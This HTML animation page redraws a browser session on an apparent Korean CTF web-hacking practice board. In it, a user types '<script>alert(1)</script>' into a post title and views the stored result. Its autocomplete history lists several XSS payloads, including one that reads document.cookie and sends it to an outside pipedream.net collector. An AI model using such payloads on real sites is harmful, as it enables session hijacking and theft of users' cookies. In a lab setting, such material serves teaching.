
An HTML page for the animation above (8 s loop, 800 by 450 pixels).

```html
<!DOCTYPE html>
<html lang="ko">
<head>
<meta charset="utf-8">
<title>Notice board</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #000; }
  svg { display: block; }
  text { font-family: "Open Sans", "Noto Sans CJK KR", "Noto Sans CJK", sans-serif; white-space: pre; }
  .serif { font-family: "Liberation Serif", serif; }
  .ko { font-family: "Noto Sans CJK KR", "Noto Sans CJK", sans-serif; }
</style>
</head>
<body>
<svg id="stage" width="800" height="450" viewBox="0 0 800 450"></svg>
<script>
const LOOP = 8000;
const SKY = '#86c0f2', BLUE = '#2990ea', DARK = '#1c1b22', PANEL = '#2b2a33', PALE = '#fbfbfe';
const HOST = 'nulcresthub.com', FOLDER = ':4343/scriptPrac2/';
const SCRIPT = '<script>alert(1)<\/script>';
const HISTORY = [
  SCRIPT,
  '<script> <\/script>',
  '<script>alert(1)<script>',
  '<script> let cookie = document.cookie; let img = new Image(); img.src = "https://eot2jevtyijbm2l.m.pipedream.net/?cookie=...',
  '<script>alert(document.cookie);<\/script>',
  '<script>alert(document.cookie)<\/script>'
];

const stage = document.getElementById('stage');
const pen = document.createElement('canvas').getContext('2d');

const escape = s => String(s).replace(/&/g, '&amp;').replace(/</g, '&lt;');
const box = (x1, y1, x2, y2, fill, r = 0, more = '') =>
  `<rect x="${x1}" y="${y1}" width="${x2 - x1}" height="${y2 - y1}" fill="${fill}" rx="${r}" ${more}/>`;
const text = (x, y, s, size, fill, more = '') =>
  `<text x="${x}" y="${y}" font-size="${size}" fill="${fill}" ${more}>${escape(s)}</text>`;
const mid = (x, y, s, size, fill, more = '') => text(x, y, s, size, fill, 'text-anchor="middle" ' + more);
const line = (d, color = PALE, width = 1) =>
  `<path d="${d}" fill="none" stroke="${color}" stroke-width="${width}" stroke-linecap="round" stroke-linejoin="round"/>`;
const dot = (x, y, r, fill) => `<circle cx="${x}" cy="${y}" r="${r}" fill="${fill}"/>`;
const cross = (x, y, r, color) =>
  line(`M${x - r} ${y - r}l${2 * r} ${2 * r}m0 ${-2 * r}l${-2 * r} ${2 * r}`, color, 0.8);
const clip = (x, y, w, h, body) => `<svg x="${x}" y="${y}" width="${w}" height="${h}" viewBox="${x} ${y} ${w} ${h}">${body}</svg>`;

function star(cx, cy) {
  let d = '';
  for (let i = 0; i < 10; i++) {
    const r = i % 2 ? 2.2 : 4.7, a = i * Math.PI / 5 - Math.PI / 2;
    d += `${i ? 'L' : 'M'}${cx + r * Math.cos(a)} ${cy + r * Math.sin(a)}`;
  }
  return line(d + 'Z', PALE, 0.8);
}

function browser({ title, file, loading, dim }, t) {
  const urlEnd = loading ? 489 : 477;
  let s = box(188, 0, 612, 24, DARK) + box(188, 24, 612, 47, PANEL) + box(354, 2, 468.5, 22, '#4d4c58', 2);
  // Tab strip
  s += line('M218 9.5h8M218.5 11.5h7v5h-7zM220.5 13.5h3', PALE, 0.9) + line('M235 1v22', '#42414d', 0.8)
    + dot(247, 12.3, 2.8, '#b01e28') + text(254, 15, 'NulCrest 웹 해킹 실습장', 6.5, PALE)
    + cross(342, 12.3, 2, '#d5d5da') + cross(459.5, 12.3, 2, '#d5d5da');
  s += loading
    ? dot(361 + 2 * Math.sin(t / 160), 12.5, 1, '#d5d5da')
      + clip(371, 3, 83, 18, text(371, 15, 'ctf.' + HOST + FOLDER, 6.3, PALE) + box(440, 3, 454, 21, 'url(#tabFade)'))
    : text(359, 15, title, 6.5, PALE);
  s += line('M477 12.5h6M480 9.5v6M500 11.5l3 3 3-3', PALE, 0.9)
    + line('M546.5 12.5h5M571.5 10h5v5h-5z', PALE, 0.7) + cross(599, 12.5, 2.4, PALE);
  // Toolbar
  const reload = dim ? '#77767f' : PALE;
  s += line('M205.5 35.5h-7m3-3-3 3 3 3') + line('M218.5 35.5h7m-3-3 3 3-3 3', '#77767f')
    + line('M244.6 33a3.6 3.6 0 1 0 .8 3M245.5 31.2v2.6h-2.6', reload)
    + box(271, 26, 509, 45, DARK, 2)
    + line('M279.7 31l3.7 1.3c0 4-.8 6-3.7 7.8c-2.9-1.8-3.7-3.8-3.7-7.8z', PALE, 0.9)
    + line('M293 34.5v-1.5a2 2 0 0 1 4 0v1.5M292.2 35h5.6v4h-5.6z', '#d5d5da', 0.9) + line('M291.5 31l7.5 8.5', '#e22850', 1.1);
  s += clip(305, 26, urlEnd - 305, 19,
    `<text x="305" y="38" font-size="7.3" fill="#8b8a93">ctf.<tspan fill="${PALE}">${HOST}</tspan>${FOLDER}${file}</text>`
    + box(urlEnd - 12, 27, urlEnd, 44, 'url(#urlFade)'));
  if (!loading) s += line('M481 32.2h5.5M483.7 31v1.2M485.5 32.4q-1 3-4.3 4M482 33.5q1 2 3 2.6M485.4 39.5l2.3-5.5 2.3 5.5M486.2 37.8h3', PALE, 0.8);
  s += star(500.7, 35.5) + dot(538.5, 35.3, 3.8, '#d5d5da')
    + `<circle cx="559" cy="35.5" r="4" fill="none" stroke="${PALE}" stroke-width=".9"/>`
    + dot(559, 34.3, 1.4, PALE) + line('M556.8 37.7q2.2-1.8 4.4 0', PALE) + dot(563, 31.5, 1.8, '#2aa5f0')
    + line('M575.5 33.5h1.7v-1a1 1 0 0 1 2 0v1h2.3v2h-1a1 1 0 0 0 0 2h1v2h-6v-2h.6a1 1 0 0 0 0-2h-.6z', PALE, 0.8)
    + line('M595 32.7h6M595 35.3h6M595 37.9h6', PALE, 0.9);
  return s;
}

const button = (x, y, label = '', font = 'ko', size = 9.3) =>
  box(x - 27.5, y, x + 27.5, y + 22, BLUE) + mid(x, y + 14.3, label, size, '#fff', `class="${font}"`);

const dateField = (x, y) => box(x, y, x + 39, y + 22, '#fff', 2.5) + text(x + 7, y + 15, 'yy.', 9.6, '#000')
  + line(`M${x + 21.5} ${y + 8}h8v7h-8zM${x + 21.5} ${y + 9}h8M${x + 23.5} ${y + 7}v1M${x + 27.5} ${y + 7}v1`, '#222', 1);

function listPage(columns, rows) {
  const end = 208.3 + rows.length * 27.7;
  let s = box(189, 102.5, 233, 130, BLUE, 5) + text(193, 120, '작성자', 9.4, '#fff', 'class="ko"')
    + line('M225.3 115.5l2.2 2.2 2.2-2.2', '#fff', 0.9)
    + box(235, 102.5, 522, 130.5, '#fff', 3) + text(240, 120.5, 'Search', 9.6, '#757575')
    + box(524, 102, 552, 130, BLUE, 3)
    + line('M538.5 118.5l3.7 3.6', '#3b3f46', 1.8)
    + '<circle cx="536.6" cy="115.6" r="3.2" fill="#7fd0f5" stroke="#30414f" stroke-width="1"/>'
    + dateField(559, 106) + dateField(189, 131);
  s += box(189, 181, 611, 208.3, BLUE) + box(189, 208.3, 611, end, '#fff');
  const record = (cells, y, fill) => cells.map((c, i) =>
    mid(columns[i], y, c, 11.05, fill, 'class="serif" font-weight="bold"')).join('');
  s += record(['User ID', 'Title', 'Views', 'Date'], 198.3, '#fff');
  rows.forEach((r, i) => s += record([1, ...r, '2024-12-30'], 226 + i * 27.7, '#000'));
  s += button(400.2, end + 11, '글쓰기');
  for (let i = 0; i < 30; i++) {
    const x = 353 + i % 6 * 16.55, y = end + 58 + Math.floor(i / 6) * 16.5;
    s += dot(x, y, 8.3, '#fff') + mid(x, y + 2.6, i + 1, 7.1, '#000');
  }
  return s + line('M196 447h397', '#5f7f9c', 1);
}

function writePage(typed, popup) {
  let s = box(206, 102, 594, 130.5, '#fff') + box(206, 133, 594, 419, '#fff')
    + mid(400, 152, '내용', 11.7, '#85858a', 'class="ko"')
    + line('M586.5 417.5l6.5-6.5M589.8 417.5l3.2-3.2', '#777', 0.8)
    + button(400.2, 430, 'create', '', 8.5);
  s += typed ? mid(400, 121, typed, 11.1, '#000') : mid(400, 121, '제목', 11.7, '#85858a', 'class="ko"');
  if (!popup) return s;
  pen.font = '11.1px "Open Sans", sans-serif';
  const caret = 400.7 + pen.measureText(typed).width / 2;
  s += line(`M${caret} 111v12`, '#555', 0.8);
  const found = HISTORY.filter(h => h.startsWith(typed) && h !== typed);
  if (found.length) s += box(206, 130.3, 594, 131.5 + found.length * 11, PANEL, 1.5, 'stroke="#42414d" stroke-width=".6"');
  found.forEach((h, i) => s += text(210, 139 + i * 11, h, 6.55, PALE));
  return s;
}

const readPage = () => box(207, 102, 593, 129.5, '#fff') + box(207, 135, 593, 416.5, '#fff')
  + mid(400, 120, SCRIPT, 11.1, '#000', 'class="serif"') + text(226, 431, '0', 11.1, '#000', 'class="serif"')
  + [326.5, 400.2, 473.5].map(x => button(x, 444)).join('');

const scrollbar = (end, opacity) => `<path d="M609 54V${end}" stroke="#6f8ba6" stroke-width="1.6" opacity="${opacity}"/>`;
const status = (s, end) => box(188, 438, end, 450, '#38373f', 0, 'stroke="#55545e" stroke-width=".6"') + text(191, 446.5, s, 6.4, PALE);

// A mistyped "sc" after the second "<" is deleted again.
const EDITS = [[2800, ')'], [3000, ')<'], [3200, ')<s'], [3400, ')<sc'], [3700, ')<s'], [3900, ')<'], [4100, ')</']];
function typedAt(t) {
  if (t < 900) return '';
  if (t < 1300) return SCRIPT.slice(0, Math.floor((t - 900) / 100) + 1);
  if (t < 2800) return SCRIPT.slice(0, Math.min(15, 5 + Math.floor((t - 1300) / 130)));
  if (t < 4400) return SCRIPT.slice(0, 15) + EDITS.filter(e => e[0] <= t).pop()[1];
  return SCRIPT.slice(0, 19 + Math.floor((t - 4400) / 100));
}

const PATH = [[0, 397.5, 280], [600, 397.5, 280], [800, 400, 118], [5200, 400, 118], [5700, 401, 437],
  [6500, 401, 437], [7100, 349.5, 275], [7400, 349.5, 275], [7800, 489.5, 277], [LOOP, 489.5, 277]];
function pointerAt(t) {
  const i = PATH.findIndex(p => p[0] > t), a = PATH[i - 1], b = PATH[i];
  const k = (t - a[0]) / (b[0] - a[0]), e = k * k * (3 - 2 * k);
  return [a[1] + (b[1] - a[1]) * e, a[2] + (b[2] - a[2]) * e];
}
function pointer(t) {
  if (t >= 900 && t < 5200) return '';
  const [x, y] = pointerAt(t), hand = t >= 7000 && t < 7500;
  const d = hand
    ? 'M-1 4.5V.8q.9-1 1.7 0V3l2.6.6q.7.3.6 1.2L3.3 9H-.8L-3 5.6q.6-1 2 .1z'
    : 'M0 0V7.2L1.7 5.7 2.8 8.3 4 7.8 2.9 5.3H5z';
  return `<path transform="translate(${x} ${y})" d="${d}" fill="#fff" stroke="#111" stroke-width=".7"/>`;
}

function scene(t) {
  const list = { title: 'Free Talking', file: 'notice_list.php' };
  const write = { title: 'Free Talking', file: 'notice_write.php' };
  const blank = { file: 'notice_write.php', loading: true };
  const host = status('ctf.' + HOST, 321.5);
  const first = [[1, 1], ['<\'">', 1]];
  if (t < 300) return [list, listPage([238.5, 333, 412, 538.5], first)];
  if (t < 600) return [blank, host, true];
  if (t < 5800) return [write, writePage(typedAt(t), t >= 900 && t < 5200)
    + scrollbar(440, Math.max(0, Math.min(1, (2300 - t) / 300)))];
  if (t < 5900) return [{ ...write, loading: true }, writePage(SCRIPT, false)];
  if (t < 6500) return [{ file: 'notice_write_process.php', loading: true }, host, true];
  if (t < 7500) return [list, listPage([214.5, 360, 497, 572], [...first, [SCRIPT, 0]])
    + (t >= 7000 ? status('ctf.' + HOST + FOLDER + 'notice_read.php?id=565&view=1', 404) : '')];
  if (t < 7700) return [{ file: 'notice_read.php', loading: true }, host, true];
  return [{ title: 'Read Posting', file: 'notice_read.php', dim: true }, readPage() + scrollbar(426, 1)];
}

const fade = (id, color) => `<linearGradient id="${id}"><stop stop-color="${color}" stop-opacity="0"/><stop offset="1" stop-color="${color}"/></linearGradient>`;
const DEFS = `<defs>${fade('urlFade', DARK)}${fade('tabFade', '#4d4c58')}</defs>`;

let shown = -1;
function draw(now) {
  const t = Math.floor(now % LOOP / 100) * 100;
  if (t !== shown) {
    const [chrome, page, empty] = scene(t);
    stage.innerHTML = DEFS + box(0, 0, 800, 450, '#000') + box(188, 47, 612, 450, empty ? PANEL : SKY)
      + browser(chrome, t) + page
      + box(188.4, 0.4, 611.6, 449.6, 'none', 0, 'stroke="#5a5960" stroke-width=".8"') + pointer(t);
    shown = t;
  }
  requestAnimationFrame(draw);
}
draw(performance.now());
</script>
</body>
</html>
```
